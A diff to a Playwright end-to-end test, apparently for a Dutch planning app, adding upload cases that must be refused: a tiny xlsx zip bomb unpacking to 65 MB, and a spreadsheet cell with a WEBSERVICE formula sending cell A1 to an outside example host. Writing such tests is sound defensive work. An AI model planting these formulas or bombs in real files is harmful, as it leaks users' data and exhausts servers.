@@ -1,6 +1,8 @@
 import type { Page } from '@playwright/test';
+import { zipSync } from 'fflate';
 import { readFile } from 'node:fs/promises';
 import { fileURLToPath } from 'node:url';
+import { xlsxOfRows } from '../helpers/spreadsheets';
 import { changeCells } from './support/sheets';
 import { goTo, introduceOneself } from './support/person';
 import { expect, test } from './support/test';
@@ -108,12 +110,31 @@ test('INV-6 a hostile file is refused in words and changes nothing', async ({ ho
     ['breed.csv', Buffer.from(`${'a;'.repeat(1_000_000)}b\n1;2`), 'Er staan te veel kolommen in'],
     ['lang.csv', Buffer.from('a;b\n'.repeat(1_000_000)), 'Er staan te veel regels in'],
     ['groot.csv', Buffer.alloc(9 * 1_048_576, 'a'), 'Dit bestand is te groot'],
+    // Some kilobytes that come to more than may be unpacked.
+    [
+      'bom.xlsx',
+      Buffer.from(zipSync({ 'xl/workbook.xml': new Uint8Array(65 * 1_048_576) })),
+      'Dit bestand is te groot',
+    ],
   ] as const;
   for (const [name, buffer, said] of hostile) {
     await pick(page, { name, mimeType: 'application/octet-stream', buffer });
     await expect(page.getByText(`${name} is niet gelezen`)).toBeVisible();
     await expect(page.getByRole('alert').filter({ hasText: said })).toBeVisible();
   }
+
+  // A formula is the text that it came to; it is never counted, and nothing is taken over by itself.
+  const formula = '<f>WEBSERVICE("https://voorbeeld.nl/"&amp;A1)</f>';
+  const cell = (place: string, text: string, before = ''): string =>
+    `<c r="${place}" t="str">${before}<v>${text}</v></c>`;
+  const rows = `<row r="1">${cell('A1', 'Naam')}${cell('B1', 'Gemeente')}</row><row r="2">${cell('A2', 'Zorgklas')}${cell('B2', 'Leiden', formula)}</row>`;
+  await pick(page, {
+    name: 'formule.xlsx',
+    mimeType: 'application/vnd.ms-excel',
+    buffer: Buffer.from(xlsxOfRows(rows)),
+  });
+  await expectPlan(page, '1 nieuw arrangement');
+  await expect(page.getByText(/WEBSERVICE|voorbeeld\.nl/)).toHaveCount(0);
   await goTo(page, '/voorbereiden/arrangementen');
   await expect(page.getByText('Nog geen arrangementen')).toBeVisible();
 });
